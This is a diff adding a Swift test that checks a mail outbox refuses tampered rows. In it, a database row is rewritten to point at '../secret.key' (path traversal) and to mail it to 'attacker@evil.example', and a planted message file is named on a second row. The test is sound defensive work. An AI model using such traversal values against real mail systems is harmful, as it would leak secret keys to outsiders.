@@ -1,3 +1,4 @@
+import Foundation
 import Testing
 import MESCore
 import MESDelivery
@@ -45,6 +46,25 @@ import MESDelivery
         #expect(try service.store.outboxEntry(id: other)?.status == .failed)
         // `check` names it.
         #expect(try service.check(receipts: nil).problems.contains { $0.code == "message_unreadable" })
+    }
+
+    /// A row made to name a file (the path of messages queued before schema 8) reads nothing
+    /// out of `outbox/`, and nothing that is not a legacy row's: `secret.key` is never mailed.
+    @Test func aRowNamingAFileSendsNothing() throws {
+        let mail = CapturingMessageTransport()
+        let (h, service, martine, other) = try twoQueued(mail)
+        try service.store.db.run("UPDATE outbox SET file = '../secret.key', recipient = 'attacker@evil.example' WHERE id = ?", .int(martine))
+        // A bare name of outbox/ on a row sealed since schema 11 is refused too.
+        FileManager.default.createFile(atPath: h.directory + "/outbox/planted.eml", contents: Data("Subject: x\r\n\r\nplanted".utf8))
+        try service.store.db.run("UPDATE outbox SET file = 'planted.eml' WHERE id = ?", .int(other))
+        let report = try service.sendOutbox()
+        #expect(report.sent == 0 && report.failed == 2, "\(report)")
+        #expect(mail.envelopes.isEmpty)
+        for id in [martine, other] {
+            let entry = try #require(try service.store.outboxEntry(id: id))
+            #expect(entry.status == .failed && entry.lastError?.hasPrefix("message_tampered") == true, "\(String(describing: entry.lastError))")
+            #expect(h.error { _ = try service.store.messageBody(entry) }?.code == .messageTampered)
+        }
     }
 
     @Test func untouchedMessagesOpenAndOlderOnesStillDo() throws {
